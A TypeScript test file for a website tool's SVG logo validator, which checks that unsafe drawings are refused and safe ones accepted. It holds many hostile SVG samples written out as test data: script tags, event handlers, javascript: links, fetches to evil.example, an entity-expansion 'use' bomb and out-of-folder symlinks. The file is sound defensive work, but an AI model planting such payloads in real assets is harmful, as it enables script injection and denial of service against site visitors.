import { execFileSync } from 'node:child_process'
import { readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import sharp from 'sharp'
import { expect, test } from 'vitest'
import { drawingsJudge } from '#check/drawings.ts'
import { applyFixes } from '#check/fix.ts'
import { logoJudge } from '#check/logo-contrast.ts'
import { svgFaults } from '#check/svg.ts'
import { changed, writeFleet, ZONNIG } from '../world/fleet.ts'
import { livery } from '../world/livery.ts'

const by = { judges: [drawingsJudge] }
const WITH_LOGO = changed(ZONNIG, '  niche: 1', '  niche: 1\n  logo: assets/logo.svg')
const WITH_MARK = changed(ZONNIG, '  niche: 1', '  niche: 1\n  mark: assets/mark.svg')

const svg = (inner: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"${attributes}>${inner}</svg>`
const GOOD = svg('<path d="M0 0h8v8z"/>')

const logo = (text: string) =>
  writeFleet({ 'sites/zonnig/site.yaml': WITH_LOGO, 'sites/zonnig/assets/logo.svg': text })
const mark = (text: string) =>
  writeFleet({ 'sites/zonnig/site.yaml': WITH_MARK, 'sites/zonnig/assets/mark.svg': text })

test('L105: a script in a drawing is shown where it stands', async () => {
  const world = await logo(`<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8">
  <path d="M0 0h8v8z"/>
  <script>alert(1)</script>
</svg>
`)
  expect(await world.printed(by)).toMatchInlineSnapshot(`
    "sites/zonnig/assets/logo.svg:4:3 error L105 assets/logo.svg holds <script>
      3 |   <path d="M0 0h8v8z"/>
      4 |   <script>alert(1)</script>
        |   ^^^^^^^^
      5 | </svg>
      fix: export it again: in Illustrator with "Presentation Attributes" and outlined type, in Inkscape as "Plain SVG" with "Object to Path", in Figma with "Outline text""
  `)
})

test('L105: every fault of a drawing is told, each at its tag', async () => {
  const world = await logo(
    svg(
      '<g onclick="steal()">\n<use href="https://evil.example/a.svg#b"/></g>\n<image href="a.png"/>'
    )
  )
  const { diagnostics } = await world.load(by)
  expect(diagnostics.map(({ line, message }) => [line, message])).toEqual([
    [1, 'assets/logo.svg has the event onclick="steal()"'],
    [2, 'assets/logo.svg links out of the file, href="https://evil.example/a.svg#b"'],
    [3, 'assets/logo.svg holds <image>'],
    [3, 'assets/logo.svg links out of the file, href="a.png"']
  ])
})

test('L105: a drawing without a viewBox, whose size says what it would be', async () => {
  const world = await logo('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="12px"/>')
  expect(await world.printed(by)).toMatchInlineSnapshot(`
    "sites/zonnig/assets/logo.svg:1:1 error L105 assets/logo.svg has no viewBox
      1 | <svg xmlns="http://www.w3.org/2000/svg" width="40" height="12px"/>
        | ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
      fix: write viewBox="0 0 40 12" into <svg>"
  `)
  applyFixes(world.root, (await world.load(by)).diagnostics)
  expect(await world.printed(by)).toBe('')
  expect(readFileSync(join(world.root, 'sites/zonnig/assets/logo.svg'), 'utf8')).toBe(
    '<svg viewBox="0 0 40 12" xmlns="http://www.w3.org/2000/svg" width="40" height="12px"/>'
  )
})

test('L105: a document type has one right answer, unless it declares something', async () => {
  const world = await logo(
    `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n${GOOD}`
  )
  expect(await world.printed(by)).toMatchInlineSnapshot(`
    "sites/zonnig/assets/logo.svg:1:1 error L105 assets/logo.svg holds <!DOCTYPE …>
      1 | <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
        | ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
      2 | <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><path d="M0 0h8v8z"/></svg>
      fix: remove it; a drawing needs none"
  `)
  applyFixes(world.root, (await world.load(by)).diagnostics)
  expect(await world.printed(by)).toBe('')
})

const BILLION = Array.from(
  { length: 12 },
  (_, level) => `<g id="g${level}">${`<use href="#g${level + 1}"/>`.repeat(8)}</g>`
)

test.each([
  ['a script', svg('<script>alert(1)</script>'), 'holds <script>'],
  ['a script in capitals', svg('<SCRIPT>alert(1)</SCRIPT>'), 'holds <SCRIPT>'],
  [
    'a script by another prefix',
    svg('<s:script>alert(1)</s:script>', ' xmlns:s="http://www.w3.org/2000/svg"'),
    'holds <s:script>'
  ],
  [
    'a script of HTML',
    svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml" src="//evil.example/x.js"/>'),
    'holds <h:script>'
  ],
  ['foreign content', svg('<foreignObject><body/></foreignObject>'), 'holds <foreignObject>'],
  ['a frame', svg('<iframe src="https://evil.example"/>'), 'holds <iframe>'],
  ['a link to click', svg('<a href="javascript:alert(1)"><path d="M0 0"/></a>'), 'holds <a>'],
  [
    'an animation',
    svg('<animate attributeName="href" to="javascript:alert(1)"/>'),
    'holds <animate>'
  ],
  ['a handler', svg('<handler type="text/ecmascript">x()</handler>'), 'holds <handler>'],
  ['a photo inside', svg('<image href="data:image/png;base64,AAAA"/>'), 'holds <image>'],
  [
    'a filter that fetches',
    svg('<filter id="a"><feImage href="x.svg"/></filter>'),
    'holds <filter>'
  ],
  ['an event', svg('<path d="M0 0" onload="alert(1)"/>'), 'has the event onload='],
  ['an event on the root', GOOD.replace('<svg', '<svg ONLOAD="alert(1)"'), 'has the event ONLOAD='],
  ['an event with a prefix', svg('<g ev:onclick="x()"/>'), 'has the event ev:onclick='],
  ['a use of another file', svg('<use href="other.svg#a"/>'), 'links out of the file'],
  [
    'a use over the net',
    svg('<use xlink:href="https://evil.example/x.svg#a"/>'),
    'links out of the file'
  ],
  ['a link by another prefix', svg('<use q:href="//evil.example#a"/>'), 'links out of the file'],
  [
    'a page as data',
    svg('<use href="data:text/html,<b>"/>'.replace('<b>', '&lt;b&gt;')),
    'links out of the file'
  ],
  ['a link in disguise', svg('<use href="&#106;avascript:alert(1)"/>'), 'links out of the file'],
  [
    'another base for links',
    GOOD.replace('<svg', '<svg xml:base="https://evil.example/"'),
    'links out of the file'
  ],
  [
    'a paint from elsewhere',
    svg('<path d="M0 0" fill="url(https://evil.example/#a)"/>'),
    'fetches another file'
  ],
  [
    'a paint from elsewhere in quotes',
    svg(`<path d="M0 0" style="fill:url( 'x.svg#a')"/>`),
    'fetches another file'
  ],
  [
    'an import',
    svg('<style>@import "https://evil.example/x.css";</style>'),
    'has a style that fetches'
  ],
  [
    'a font',
    svg('<style>@font-face{font-family:a;src:url(#a)}</style>'),
    'has a style that fetches'
  ],
  [
    'a fetch hidden in a style',
    svg('<style>*{fill:u\\72l(//evil.example)}</style>'),
    'behind a backslash'
  ],
  [
    'a style in CDATA',
    svg('<style><![CDATA[*{background:url(//evil.example)}]]></style>'),
    'has a style that fetches'
  ],
  [
    'a style by another prefix',
    svg('<s:style>@import "x"</s:style>', ' xmlns:s="http://www.w3.org/2000/svg"'),
    'has a style that fetches'
  ],
  [
    'a picture set',
    svg('<path d="M0 0" style="mask:image-set(\'//evil.example\' 1x)"/>'),
    'can fetch or run'
  ],
  ['an entity', `<!DOCTYPE svg [<!ENTITY x "y">]>${svg('<text>&x;</text>')}`, 'holds <!DOCTYPE'],
  ['an entity of another name', svg('<text>&evil;</text>'), 'holds the entity &evil;'],
  [
    'a style sheet beside it',
    `<?xml-stylesheet href="https://evil.example/x.css"?>${GOOD}`,
    'holds <?xml-stylesheet'
  ],
  ['another encoding', `<?xml version="1.0" encoding="UTF-7"?>${GOOD}`, 'holds <?xml'],
  ['a bomb of uses', svg(`${BILLION.join('')}<use href="#g0"/>`), 'draws more than 10000 elements'],
  ['a drawing within itself', svg('<g id="a"><use href="#a"/></g>'), 'one within itself'],
  ['sixty thousand lines', svg('<g/>'.repeat(60_000)), 'draws more than 10000 elements'],
  ['nesting without end', svg('<g>'.repeat(5000) + '</g>'.repeat(5000)), 'more than 48 deep'],
  ['an element that is not closed', svg('<g><path d="M0 0">'), 'never closes <path>'],
  ['a second drawing', `${GOOD}${GOOD}`, 'has a second <svg>'],
  ['text after it', `${GOOD}<`, 'has text outside of the drawing'],
  ['a page around it', `<html><body>${GOOD}</body></html>`, 'begins with <html> and is not an SVG'],
  ['words', 'only words', 'is not an SVG drawing'],
  ['nothing', '', 'is not an SVG drawing'],
  ['an empty viewBox', '<svg viewBox="0 0 0 0"/>', 'has the viewBox "0 0 0 0"'],
  ['a viewBox that is no box', '<svg viewBox="0 0 calc(1) 1"/>', 'has the viewBox'],
  ['no viewBox and a size in per cent', '<svg width="100%" height="100%"/>', 'has no viewBox']
])('L105: a drawing with %s is refused', async (_, text, said) => {
  expect(
    svgFaults(text)
      .map(({ says }) => says)
      .join('\n')
  ).toContain(said)
  const { sites, diagnostics } = await (await logo(text)).load(by)
  expect(sites).toEqual([])
  expect(new Set(diagnostics.map(({ code }) => code))).toEqual(new Set(['L105']))
})

test.each([
  ['shapes', GOOD],
  [
    'a declaration and a byte order mark',
    `\uFEFF<?xml version="1.0" encoding="utf-8"?>\n<!-- made by hand -->${GOOD}`
  ],
  [
    'gradients, clips and uses',
    svg(
      '<defs><linearGradient id="a"><stop offset="0"/></linearGradient><g id="b"/></defs><use href="#b"/><path d="M0 0" fill="url(#a)" clip-path="url(\'#b\')"/>'
    )
  ],
  [
    'a plain style',
    svg(
      '<style>.a,.b{fill:#c8102e}</style><path class="a" style="stroke:#fff;-inkscape-stroke:none" d="M0 0"/>'
    )
  ],
  ['a title', svg('<title>Zonnig &amp; warm &#8211; echt</title><path d="M0 0h8"/>')],
  [
    "an editor's notes",
    svg(
      '<pen:view href2="x" pen:file="C:\\art\\logo (2).svg"/><metadata><rdf:RDF><cc:license rdf:resource="https://a.example/by"/></rdf:RDF></metadata><path d="M0 0"/>',
      ' xmlns:pen="urn:pen" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="https://a.example/cc#"'
    )
  ],
  [
    'transforms and tokens',
    svg(
      '<g transform="matrix(1 0 0 1 2 2)"><path d="M0 0" fill="var(--lv-primary)" stroke="rgb(1,2,3)"/></g>'
    )
  ]
])('L105: a drawing with %s is taken', async (_, text) => {
  expect(await (await logo(text)).printed(by)).toBe('')
})

test.each([
  ['logo', '<text x="1" y="2">Zonnig</text>', 'holds <text>', 'Object to Path'],
  ['mark', '<text x="1" y="2">Z</text>', 'holds <text>', 'Create Outlines'],
  [
    'mark',
    '<style>@media print{.a{fill:red}}</style><path class="a" d="M0 0"/>',
    'has a style with "@media"',
    'Presentation Attributes'
  ],
  [
    'logo',
    '<path style="mix-blend-mode:multiply" d="M0 0h4v4"/>',
    'sets mix-blend-mode by a style',
    'Plain SVG'
  ],
  [
    'mark',
    `<style>${'.a{fill:red}'.repeat(2000)}</style><path d="M0 0h4v4"/>`,
    'has more than 16 KB of styles',
    'Illustrator'
  ]
] as const)(
  'L105: a %s with %s is refused, with the step that mends it',
  async (part, inner, says, step) => {
    const world = await (part === 'logo' ? logo : mark)(svg(inner))
    const { sites, diagnostics } = await world.load(by)
    expect(sites).toEqual([])
    const [diagnostic] = diagnostics
    expect(diagnostic?.message).toContain(says)
    expect(diagnostic?.hint).toContain(step)
  }
)

test('L105: a wide mark is small in square icons', async () => {
  const wide =
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 16"><path d="M0 0h8v8z"/></svg>'
  expect(await (await mark(wide)).printed(by)).toContain(
    'warning L105 brand.mark is "assets/mark.svg", which is 64 × 16: icons are square'
  )
  expect(await (await logo(wide)).printed(by)).toBe('')
})

const both = { judges: [drawingsJudge, logoJudge] }

/** A brand with a logo of 400 × 80 pixels in one colour, as PNG. */
async function pngLogo(settings: string, paint: string, width = 400) {
  const world = await writeFleet({
    'sites/zonnig/site.yaml': changed(ZONNIG, '  niche: 1', settings)
  })
  await world.write({ 'sites/zonnig/assets/dark.svg': svg('<path fill="#fff" d="M1 1h6v6H1z"/>') })
  const drawn = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="80"><path fill="${paint}" d="M4 4h80v72H4z"/></svg>`
  await sharp(Buffer.from(drawn)).png().toFile(join(world.root, 'sites/zonnig/assets/logo.png'))
  return world
}
const PNG_LOGO = '  niche: 1\n  logo: assets/logo.png'

test('L107: a dark logo by night, until there is one for dark ground', async () => {
  expect(await (await pngLogo(PNG_LOGO, '#101020')).printed(both)).toMatchInlineSnapshot(`
    "sites/zonnig/site.yaml:6:9 warning L107 brand.logo can hardly be seen by night: 0 % of it stands out from #250406
      5 |   niche: 1
      6 |   logo: assets/logo.png
        |         ^^^^^^^^^^^^^^^
      7 | locales:
      fix: name a light one for dark ground, logoDark: assets/logo-dark.svg"
  `)
  const twice = `${PNG_LOGO}\n  logoDark: assets/dark.svg`
  expect(await (await pngLogo(twice, '#101020')).printed(both)).toBe('')
  const alone = await pngLogo('  niche: 1\n  logoDark: assets/dark.svg', '#101020')
  expect(await alone.printed(both)).toContain('brand.logoDark is set and brand.logo is not')
})

test('L105: a PNG too small for fine screens, and one that is cut short', async () => {
  expect(await (await pngLogo(PNG_LOGO, '#b01030', 120)).printed(both)).toContain(
    'warning L105 brand.logo has 120 × 80 pixels and is drawn'
  )
  const world = await pngLogo(PNG_LOGO, '#b01030')
  const file = join(world.root, 'sites/zonnig/assets/logo.png')
  writeFileSync(file, readFileSync(file).subarray(0, 60))
  expect(await world.printed(both)).toContain('which cannot be drawn')
  writeFileSync(file, GOOD)
  expect(await world.printed(both)).toContain('ends in .png and holds SVG')
})

test('L105: a mark with a token that no theme has names the nearest', async () => {
  expect(
    await (await mark(svg('<path d="M0 0" fill="var(--lv-primray)"/>'))).printed(by)
  ).toMatchInlineSnapshot(`
    "sites/zonnig/site.yaml:6:9 error L105 brand.mark is "assets/mark.svg", which paints with --lv-primray, which is no token of the theme
      5 |   niche: 1
      6 |   mark: assets/mark.svg
        |         ^^^^^^^^^^^^^^^
      7 | locales:
      fix: did you mean --lv-primary?"
  `)
  expect(await (await mark(svg('<path d="M0 0" fill="var(--lv-em-color)"/>'))).printed(by)).toBe('')
})

test('L105: a drawing of more than 256 KB', async () => {
  const world = await logo(svg(`<path d="M0 0${' h1'.repeat(100_000)}"/>`))
  expect(await world.printed(by)).toMatchInlineSnapshot(`
    "sites/zonnig/site.yaml:6:9 error L105 brand.logo is "assets/logo.svg", which has 294 KB; a drawing has at most 256 KB
      5 |   niche: 1
      6 |   logo: assets/logo.svg
        |         ^^^^^^^^^^^^^^^
      7 | locales:
      fix: simplify its paths, and leave photos out"
  `)
})

test('L105: a picture that is only called a drawing, and text in another encoding', async () => {
  const world = await logo(GOOD)
  const file = join(world.root, 'sites/zonnig/assets/logo.svg')
  writeFileSync(file, Buffer.from('\x89PNG\r\n\x1a\n\0\0\0', 'latin1'))
  expect(await world.printed(by)).toMatchInlineSnapshot(`
    "sites/zonnig/site.yaml:6:9 error L105 brand.logo is "assets/logo.svg", which is not an SVG drawing
      5 |   niche: 1
      6 |   logo: assets/logo.svg
        |         ^^^^^^^^^^^^^^^
      7 | locales:
      fix: export it as SVG, in UTF-8"
  `)
  writeFileSync(file, Buffer.from(`\uFEFF${GOOD}`, 'utf16le'))
  expect(await world.printed(by)).toContain('is not an SVG drawing')
})

test('L105: a pipe or a folder in the place of a drawing is refused and not waited for', async () => {
  const world = await writeFleet({
    'sites/zonnig/site.yaml': WITH_LOGO,
    'sites/zonnig/assets/logo.svg/inside.txt': 'x',
    'sites/pijp/site.yaml': WITH_MARK.replaceAll('zonnig.example', 'pijp.example'),
    'sites/pijp/assets/other.svg': GOOD
  })
  execFileSync('mkfifo', [join(world.root, 'sites/pijp/assets/mark.svg')])
  const { diagnostics } = await world.load(by)
  expect(diagnostics.map(({ message }) => message)).toEqual([
    'brand.mark is "assets/mark.svg", which is not a file',
    'brand.logo is "assets/logo.svg", which is not a file'
  ])
})

test('a logo that cannot be drawn stops no other brand: validate tells of each', async () => {
  const brand = (id: string, logo: string) =>
    changed(WITH_LOGO, 'assets/logo.svg', logo).replaceAll('zonnig', id).replaceAll('Zonnig', id)
  const world = await writeFleet({
    'sites/goed/site.yaml': brand('goed', 'assets/logo.svg'),
    'sites/goed/assets/logo.svg': svg('<path fill="var(--lv-primary)" d="M0 0h8v8z"/>'),
    'sites/paint/site.yaml': brand('paint', 'assets/logo.svg'),
    'sites/paint/assets/logo.svg': svg('<path fill="var(--lv-primray)" d="M0 0h8v8z"/>'),
    'sites/folder/site.yaml': brand('folder', 'assets/logos'),
    'sites/folder/assets/logos/inside.svg': GOOD,
    'sites/svgs/site.yaml': brand('svgs', 'assets/logo.svg'),
    'sites/svgs/assets/logo.svg/inside.txt': 'x',
    'sites/pipe/site.yaml': brand('pipe', 'assets/logo.png'),
    'sites/pipe/assets/other.svg': GOOD
  })
  execFileSync('mkfifo', [join(world.root, 'sites/pipe/assets/logo.png')])
  const { status, stdout, stderr } = livery(['--cwd', world.root, '--json', 'validate'])
  expect(status, stderr).toBe(3)
  const { sites, issues } = JSON.parse(stdout)
  expect(sites.map(({ id }: { id: string }) => id)).toEqual(['goed'])
  const told = issues
    .filter(({ code }: { code: string }) => code === 'L105')
    .map(({ site, path }: Record<string, string>) => [site, path])
  expect(told.sort()).toEqual(['folder', 'paint', 'pipe', 'svgs'].map(id => [id, 'brand.logo']))
})

test('L105: a drawing that is a link out of the folder is not read', async () => {
  const world = await writeFleet({
    'sites/zonnig/site.yaml': WITH_LOGO,
    'sites/zonnig/assets/own.svg': GOOD,
    'secret.svg': '<script>secret</script>'
  })
  symlinkSync('../../../secret.svg', join(world.root, 'sites/zonnig/assets/logo.svg'))
  expect(await world.printed(by)).toMatchInlineSnapshot(`
    "sites/zonnig/site.yaml:6:9 error L105 brand.logo is "assets/logo.svg", which is a link out of sites/zonnig
      5 |   niche: 1
      6 |   logo: assets/logo.svg
        |         ^^^^^^^^^^^^^^^
      7 | locales:
      fix: put the file itself there"
  `)
})

test('a drawing may be a link to another file of the same brand', async () => {
  const world = await logo(GOOD)
  await world.write({ 'sites/zonnig/site.yaml': WITH_MARK })
  symlinkSync('logo.svg', join(world.root, 'sites/zonnig/assets/mark.svg'))
  expect(await world.printed(by)).toBe('')
})

test('a mark that is a link out of the folder is not built', async () => {
  const world = await writeFleet({ 'sites/zonnig/site.yaml': WITH_MARK, 'elsewhere.svg': GOOD })
  await world.write({ 'sites/zonnig/assets/other.svg': GOOD })
  symlinkSync('../../../elsewhere.svg', join(world.root, 'sites/zonnig/assets/mark.svg'))
  const { status, stderr } = livery(['--cwd', world.root, 'build', '--no-media'])
  expect(status).toBe(3)
  expect(stderr).toContain('which is a link out of sites/zonnig')
})

test('the marks of the demo brands are taken as they are', () => {
  for (const id of ['avondlicht', 'papillon', 'herbstgold']) {
    const root = join(import.meta.dirname, '../..')
    const draft = { brand: { mark: 'assets/mark.svg', logo: 'assets/mark.svg' }, theme: {} }
    expect(drawingsJudge({ id, root, draft })).toEqual([])
  }
})
